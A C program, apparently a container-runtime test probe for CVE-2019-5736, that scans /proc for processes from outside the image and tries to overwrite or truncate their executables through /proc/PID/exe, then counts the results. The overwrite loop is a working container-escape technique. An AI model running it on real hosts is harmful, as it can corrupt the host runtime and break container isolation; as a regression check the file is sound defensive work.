/*
 * Until its stdin ends: takes hold of the executable, root, working directory and descriptors of every process that is not
 * one of the image's own, and tries to write to what it got. Prints how often each was reached; see CVE-2019-5736.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static struct { unsigned seen, held, opened, written, traced, outside; } count;
static dev_t own;

static void write_to(const char *path) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) return;
    count.opened++;
    if (write(fd, "overwritten", 11) > 0 || ftruncate(fd, 0) == 0) count.written++;
    close(fd);
}

static void take(const char *pid) {
    char path[300];
    struct stat status;
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0 || fstat(fd, &status) < 0 || status.st_dev == own) {
        if (fd >= 0) close(fd);
        return;
    }
    count.held++;
    write_to(path);
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    for (int i = 0; i < 200; i++) write_to(path);
    close(fd);
}

/* A process on the way into the container must not be looked into: its root or descriptors may still be the host's. */
static void look(const char *pid) {
    static const char *const places[] = {"root", "cwd", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7", "fd/8"};
    char path[300];
    struct stat root, status;
    stat("/", &root);
    for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
        snprintf(path, sizeof path, "/proc/%s/%s", pid, places[i]);
        if (stat(path, &status) == 0 && (S_ISDIR(status.st_mode) ? status.st_dev != root.st_dev : S_ISREG(status.st_mode))) count.outside++;
    }
}

/* One that can be traced must have become a program of the image. */
static void trace(pid_t pid) {
    char path[64];
    struct stat status;
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) return;
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    if (waitpid(pid, NULL, __WALL) < 0) return;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    if (stat(path, &status) == 0 && status.st_dev != own) count.traced++;
    ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void visit(const char *pid) {
    count.seen++;
    take(pid);
    look(pid);
    trace(atoi(pid));
}

int main(void) {
    struct stat status;
    struct pollfd input = {0, POLLIN, 0};
    if (stat("/bin/busybox", &status) < 0) return 1;
    own = status.st_dev;
    puts("ready");
    fflush(stdout);
    while (poll(&input, 1, 0) == 0) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; proc && (entry = readdir(proc));)
            if (isdigit((unsigned char)*entry->d_name) && atoi(entry->d_name) > 1 && atoi(entry->d_name) != getpid()) visit(entry->d_name);
        if (proc) closedir(proc);
    }
    printf("held %u opened %u written %u outside %u traced %u\n", count.held, count.opened, count.written, count.outside, count.traced);
    fprintf(stderr, "seen %u\n", count.seen);
    return 0;
}
